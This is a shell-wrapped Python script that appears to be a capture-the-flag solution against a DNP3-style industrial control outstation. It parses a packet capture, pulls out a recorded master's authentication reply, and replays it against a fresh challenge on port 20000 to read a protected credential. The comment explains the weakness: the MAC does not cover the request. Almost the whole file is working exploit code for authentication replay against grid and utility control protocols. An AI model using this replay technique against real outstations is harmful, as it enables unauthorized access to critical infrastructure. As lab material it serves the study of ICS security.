#!/bin/bash
# The captured master reply (g120v2, CSQ 1) answers the challenge that every
# new association starts with, and the MAC does not cover the request. So:
# send a critical READ of g110 (octet string 0), get challenged with CSQ 1,
# replay the captured AUTH_REQUEST objects, read the credential.
set -e
cd "$HOME"
python3 - <<'PY'
import re, socket, struct

def crc16(data):
    crc = 0
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA6BC if crc & 1 else crc >> 1
    return (~crc) & 0xFFFF

def link_user(frame):
    """(dest, src, user data) of one link frame; strips block CRCs."""
    length = frame[2]
    dest, src = struct.unpack("<HH", frame[4:8])
    left, pos, user = length - 5, 10, b""
    while left:
        n = min(16, left)
        user += frame[pos:pos + n]
        pos += n + 2
        left -= n
    return dest, src, user, pos

# --- pcap: TCP payloads towards port 20000
raw = open("feeder-ops.pcap", "rb").read()
off, to_out = 24, b""
while off < len(raw):
    incl = struct.unpack("<I", raw[off + 8:off + 12])[0]
    pkt = raw[off + 16:off + 16 + incl]
    off += 16 + incl
    ip = pkt[14:]
    ihl = (ip[0] & 15) * 4
    tcp = ip[ihl:]
    if ip[9] == 6 and struct.unpack("!H", tcp[2:4])[0] == 20000:
        to_out += tcp[(tcp[12] >> 4) * 4:]
        master_ip = ".".join(map(str, ip[12:16]))
print("answer[2]: " + master_ip)
apdus = []
while to_out:
    dest, src, user, used = link_user(to_out)
    apdus.append((dest, src, user[1:]))
    to_out = to_out[used:]
out_addr, master, auth = next((d, s, a) for d, s, a in apdus if a[1] == 0x20)
csq = struct.unpack("<I", auth[8:12])[0]

def frame(apdu, tseq):
    user = bytes([0xC0 | tseq]) + apdu
    hdr = b"\x05\x64" + bytes([5 + len(user), 0xC4]) + struct.pack("<HH", out_addr, master)
    f = hdr + struct.pack("<H", crc16(hdr))
    for i in range(0, len(user), 16):
        f += user[i:i + 16] + struct.pack("<H", crc16(user[i:i + 16]))
    return f

s = socket.create_connection(("outstation", 20000), timeout=10)
def recv_exact(n):
    b = b""
    while len(b) < n:
        d = s.recv(n - len(b))
        if not d:
            raise SystemExit("eof")
        b += d
    return b
def recv_apdu():
    hdr = recv_exact(10)
    rest = b""
    left = hdr[2] - 5
    while left:
        n = min(16, left)
        rest += recv_exact(n + 2)
        left -= n
    return link_user(hdr + rest)[2][1:]

s.sendall(frame(bytes([0xC0, 0x01, 110, 0, 0x06]), 0))
chal = recv_apdu()
assert chal[1] == 0x83 and struct.unpack("<I", chal[10:14])[0] == csq, chal.hex()
print("answer[1]: " + chal[18:34].hex())
s.sendall(frame(bytes([0xC1]) + auth[1:], 1))
resp = recv_apdu()
print(re.search(rb"flag\{[0-9a-f]+\}", resp).group(0).decode())
PY
